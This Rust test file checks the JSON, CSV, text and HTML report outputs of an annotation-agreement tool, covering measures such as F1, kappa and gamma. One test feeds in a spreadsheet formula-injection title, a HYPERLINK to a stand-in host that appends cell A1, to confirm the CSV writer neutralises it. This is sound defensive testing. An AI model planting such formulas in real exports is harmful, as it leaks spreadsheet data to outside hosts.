//! Tests of the forms of a report.

use super::*;
use crate::compare::agreement::{Comparison, LabelMap, Settings, Source, Watch};
use crate::model::scheme::Scheme;
use crate::model::*;

/// Two people mark the same sentence: both the first claim, each another second one.
fn report() -> Report {
    report_of("Dam, \"holding\"", "Ben")
}

/// The same with this title, and this name of the second.
fn report_of(title: &str, second: &str) -> Report {
    let mut stamp = Stamp::of_number(1);
    let mut project = Project::begin(Scheme::claims_and_denials(), "Ada <b>", &mut stamp);
    let one = *project.sets()[0].0;
    let text = Text::new("The dam holds.\nNobody \"knows\" why.\n");
    let details = Details { title: title.to_owned(), ..Details::default() };
    let blocks = Block::guess(&text);
    let (step, article) = actions::add_article(&project, details, text.clone(), blocks, "", &mut stamp).unwrap();
    project.apply(&step.transaction).unwrap();
    let (revision, _) = project.latest(article).unwrap();
    let mut builder = edit::Builder::new(&project);
    let (annotator, other) = (AnnotatorId(stamp.fresh()), SetId(stamp.fresh()));
    builder.put(annotator, Some(Annotator { rank: 1, name: second.to_owned() }));
    let (kind, begun) = (SetKind::Own, stamp.time);
    builder.put(
        other,
        Some(Set {
            rank: 1,
            name: String::new(),
            annotator: Some(annotator),
            kind,
            begun,
            unmasked: Vec::new(),
            handed: None,
        }),
    );
    for set in [one, other] {
        builder.put((set, article), Some(Done { time: stamp.time }));
    }
    let begun = builder.finish();
    project.apply(&begun).unwrap();
    for (set, start, end) in [(one, 0, 13), (other, 0, 13), (one, 15, 21), (other, 22, 29)] {
        let fragments = Fragments::one(text.span(start, end).unwrap());
        let label = LabelKey::slug("claim");
        let (step, _) = actions::annotate(&project, set, revision, &label, fragments, &mut stamp).unwrap();
        project.apply(&step.transaction).unwrap();
    }
    let sources = vec![Source { name: "dam.ron".to_owned(), project }];
    let sets = Comparison::all_sets(&sources);
    let comparison = Comparison::of(sources, &sets, &LabelMap::new());
    Report::of(&comparison, Settings::default(), Watch::ALONE).unwrap()
}

#[test]
fn json_has_its_keys() {
    let json: serde_json::Value = serde_json::from_str(&json(&report())).unwrap();
    assert_eq!(json["format"], 1);
    assert_eq!(json["sets"][0]["name"], "Ada <b>");
    assert_eq!(json["articles"][0]["sha256"].as_str().unwrap().len(), 64);
    let measure = |key: &str| {
        json["measures"].as_array().unwrap().iter().find(|measure| measure["measure"] == key).unwrap().clone()
    };
    let strict = measure("spans strict f1");
    assert_eq!(strict["overall"]["value"], 0.5);
    assert_eq!((&strict["overall"]["n"], &strict["unit"]), (&4.0.into(), &"annotations".into()));
    assert_eq!(strict["labels"]["claim"]["value"], 0.5);
    assert_eq!(strict["labels"]["denial"]["value"], serde_json::Value::Null);
    assert_eq!(strict["labels"]["denial"]["undefined"], "nothing marked");
    assert_eq!(strict["pairs"][0]["sets"], serde_json::json!(["Ada <b>", "Ben"]));
    // Six tokens: both marked three, each one more. Observed 4/6; chance (4/6)² + (2/6)² = 5/9.
    let kappa = measure("cohen kappa")["overall"]["value"].as_f64().unwrap();
    assert!((kappa - (4.0 / 6.0 - 5.0 / 9.0) / (4.0 / 9.0)).abs() < 1e-12, "{kappa}");
    assert_eq!(measure("gamma")["gamma"]["exact"], true);
    assert_eq!(measure("relations labelled f1")["overall"]["undefined"], "nothing marked");
}

#[test]
fn csv_has_a_row_for_each_value() {
    let csv = csv(&report());
    let mut rows = ::csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(rows.headers().unwrap().iter().take(4).collect::<Vec<_>>(), ["measure", "attribute", "of", "name"]);
    let rows: Vec<_> = rows.records().map(Result::unwrap).collect();
    let found = rows.iter().filter(|row| &row[0] == "spans strict f1" && &row[2] == "article").collect::<Vec<_>>();
    assert_eq!(found.len(), 1);
    assert_eq!((&found[0][3], &found[0][5]), ("Dam, \"holding\"", "0.5"));
}

#[test]
fn people_read_the_same_numbers() {
    let report = report();
    let (text, page) = (text(&report), page(&report));
    assert!(text.contains("Ada <b>, Ben, in one article"), "{text}");
    let line = text.lines().find(|line| line.contains("F1, label and words ")).unwrap();
    assert!(line.contains("0.5000") && line.ends_with("4 annotations"), "{line}");
    assert!(text.contains("undefined: nobody marked any"), "{text}");
    assert!(page.contains("Ada &lt;b&gt;") && !page.contains("Ada <b>"), "what is text stays text");
    assert!(page.contains("<td dir=\"auto\">0.5000</td>"), "{page}");
    assert!(!page.contains("<script") && !page.contains("src="));
}

#[test]
fn csv_has_no_cell_that_a_spreadsheet_would_run() {
    let title = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
    let csv = csv(&report_of(title, "@Ben"));
    let rows: Vec<_> = ::csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect();
    let texts: Vec<&str> = rows.iter().flat_map(|row| [row.get(1), row.get(3), row.get(4)]).flatten().collect();
    assert!(texts.contains(&format!("'{title}").as_str()) && texts.contains(&"'@Ben"), "{csv}");
    assert!(texts.iter().all(|text| !text.starts_with(['=', '+', '-', '@', '\t', '\r'])));
    // A number below 0 stays one.
    let below = rows.iter().filter(|row| row[5].starts_with('-')).count();
    assert!(below > 0 && rows.iter().all(|row| !row[5].starts_with('\'')), "{csv}");
}

#[test]
fn csv_says_how_its_values_came_about_and_what_is_missing() {
    let mut report = report();
    report.left_out.push(Omission {
        why: "not done",
        set: Some("Ben".to_owned()),
        article: Some("Dike".to_owned()),
        annotation: None,
        told: String::new(),
    });
    let csv = csv(&report);
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let head = reader.headers().unwrap().clone();
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    let of =
        |row: &::csv::StringRecord, column: &str| row[head.iter().position(|name| name == column).unwrap()].to_owned();
    let gamma = rows.iter().find(|row| &row[0] == "gamma" && &row[2] == "all").unwrap();
    assert_eq!(["match", "seed"].map(|column| of(gamma, column)), ["exact", "1"]);
    let sampled = report.sections.iter().find(|section| section.key == "gamma").unwrap().sampled.unwrap();
    assert_eq!(of(gamma, "samples"), sampled.chance.samples.to_string());
    assert_eq!(of(gamma, "expected"), sampled.chance.disorder.to_string());
    assert_eq!(of(gamma, "observed"), sampled.observed.to_string());
    let last = rows.last().unwrap();
    assert_eq!((&last[2], &last[3], &last[4], &last[6]), ("left out", "Dike", "Ben", "not done"));
}

#[test]
fn tables_fit_a_terminal_and_every_number_says_how_much_was_counted() {
    let mut report = report_of(&"a title that goes on and on ".repeat(6), "Ben");
    for section in &mut report.sections {
        let twice = section.parts.clone();
        section.parts.extend(twice.into_iter().filter(|part| part.sort == Sort::Article));
    }
    let text = text(&report);
    let tables = text.split_once("\n\n").unwrap().1;
    let notes = tables.split_once("\nNotes\n").unwrap();
    assert!(notes.0.lines().all(|line| line.chars().count() <= 100), "{text}");
    assert!(notes.1.contains("undefined: nobody marked any"), "reasons stand below");
    assert!(!notes.0.contains("nobody marked"), "and not in the columns");
    let by_label = notes.0.split_once("\nBy label\n").unwrap().1;
    let claim = by_label.lines().find(|line| line.trim_start().starts_with("claim")).unwrap();
    assert!(claim.contains("0.5000") && claim.ends_with("4 annotations"), "{claim}");
    let article = by_label.split_once("\nBy article\n").unwrap().1;
    assert!(article.lines().any(|line| line.contains("on and on") && line.ends_with("4 annotations")), "{article}");
    let page = page(&report);
    assert!(page.contains(">By label</h2>") && page.contains("[1] "), "{page}");
}

#[test]
fn what_is_approximate_says_so_in_every_form() {
    let mut report = report();
    for section in report.sections.iter_mut().filter(|section| section.key == "gamma") {
        section.approximate = true;
        section.parts.iter_mut().filter(|part| part.sort == Sort::Pair).for_each(|part| part.approximate = true);
        section.sampled.as_mut().unwrap().exact = false;
    }
    let text = text(&report);
    let gamma = text.lines().find(|line| line.trim_start().starts_with("gamma ")).unwrap();
    assert!(gamma.contains("≈ ") && text.contains("an alignment may not be the best one"), "{text}");
    assert!(text.contains("some alignments may not be the best (≈)"), "{text}");
    assert!(page(&report).contains("≈ "));
    let csv = csv(&report);
    assert_eq!(csv.lines().filter(|line| line.starts_with("gamma,") && line.contains(",yes,")).count(), 2, "{csv}");
    let json: serde_json::Value = serde_json::from_str(&json(&report)).unwrap();
    let found = json["measures"].as_array().unwrap().iter().find(|measure| measure["measure"] == "gamma").unwrap();
    assert_eq!((&found["overall"]["approximate"], &found["articles"][0]["approximate"]), (&true.into(), &false.into()));
}
